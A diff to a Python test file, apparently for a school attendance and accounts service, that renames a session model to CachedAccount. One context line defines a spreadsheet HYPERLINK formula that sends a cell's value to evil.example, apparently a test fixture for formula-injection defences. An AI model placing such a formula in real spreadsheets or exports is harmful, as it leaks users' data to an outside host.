@@ -15,7 +15,7 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from dal.models import Attendance, AttendanceRecord, Role, UserSessionRedis
+from dal.models import Attendance, AttendanceRecord, CachedAccount, Role
 from dal.pg import Postgres
 from dal.redis.stores import RedisStores
 from services.accounts import AccountService
@@ -44,8 +44,8 @@ NOW = datetime.now(UTC).replace(microsecond=0)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
 
-def _session(user_number: str, role: Role, telegram_id: int = 1) -> UserSessionRedis:
-    return UserSessionRedis(
+def _session(user_number: str, role: Role, telegram_id: int = 1) -> CachedAccount:
+    return CachedAccount(
         telegram_id=telegram_id,
         school_number=user_number,
         full_name="X",
